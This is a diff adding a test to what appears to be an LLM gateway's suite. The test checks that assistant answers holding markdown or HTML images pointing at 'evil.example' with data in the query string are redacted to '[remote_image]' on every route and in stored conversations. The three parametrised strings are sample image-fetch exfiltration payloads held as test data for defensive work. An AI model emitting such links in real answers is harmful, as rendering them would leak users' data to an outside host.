@@ -227,3 +227,36 @@ def test_a_mistake_names_its_line_before_anything_is_served(home):
     home.declare("  input: {personel: block}\n")
     said = home.aver("gateway", "check", code=2).err
     assert "aver.yaml:7: 'personel' is no check. Did you mean 'personal'?" in said
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        "The badge is ![x](https://evil.example/?q=ann) here.",
+        "The badge is ![x][b] here.\n\n[b]: https://evil.example/?q=ann",
+        '<img src="//evil.example/?q=ann"> is the badge.',
+    ],
+)
+def test_a_picture_that_would_be_fetched_comes_through_no_door_though_nothing_is_declared(home, post, written):
+    home.declare("  input: {}\n")
+    home.says = f"{CARRY} {written} {MARCH}"
+    with serving(home.open()) as served:
+        key = home.key()
+        for stream in (False, True):
+            shown = [
+                post(served.url + PATHS[door], key, body(door, "assistant", ASKED, stream=stream)) for door in DOORS
+            ]
+            shown.append(post(f"{served.url}/v1/ask", key, {"question": ASKED, "stream": stream}))
+            for answer in shown:
+                assert answer.status_code == 200
+                assert "ten days carry over" in answer.text
+                assert "[remote_image]" in answer.text
+                assert "evil.example" not in answer.text
+        conversation = post(f"{served.url}/v1/ask", key, {"question": ASKED}).json()["conversation"]
+        import httpx
+
+        past = httpx.get(f"{served.url}/v1/conversations/{conversation}", headers={"Authorization": f"Bearer {key}"})
+        assert past.status_code == 200
+        assert "evil.example" not in past.text
+    assert {step.facts["outcome"] for step in home.steps("checked")} == {"redact"}
+    assert any("evil.example" in json.dumps(step.body) for step in home.steps("generated"))
